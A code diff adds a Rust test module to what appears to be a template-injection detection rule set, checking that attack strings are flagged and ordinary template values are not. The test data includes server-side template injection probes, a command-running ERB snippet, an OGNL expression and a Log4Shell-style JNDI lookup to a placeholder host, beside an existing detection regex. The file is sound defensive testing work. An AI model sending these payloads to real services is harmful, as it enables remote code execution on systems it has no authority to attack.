@@ -45,3 +45,26 @@ pub(super) const RULES: &[Rule] = &[
         r"\$eval(?:async)?\s*\(|\$on\.constructor|\.charat\s*=|\bng-(?:init|click|csp|focus|app)\s*=|\{\{\s*(?:alert|prompt|confirm|eval)\s*\(|tostring\(\)\.constructor",
     ),
 ];
+
+#[cfg(test)]
+mod tests {
+    use crate::builtin::Family;
+    use crate::builtin::families::check;
+
+    #[test]
+    fn attacks_and_ordinary_values() {
+        check(
+            Family::Template,
+            &[
+                "{{7*7}}",
+                "${7*7}",
+                "{{config.items()}}",
+                "<%= `id` %>",
+                "${jndi:ldap://a.example/x}",
+                "{{''.__class__}}",
+                "%{#context[0]}",
+            ],
+            &["{{ first_name }}", "${user.name}", "#{count} left", "{% if paid %}"],
+        );
+    }
+}
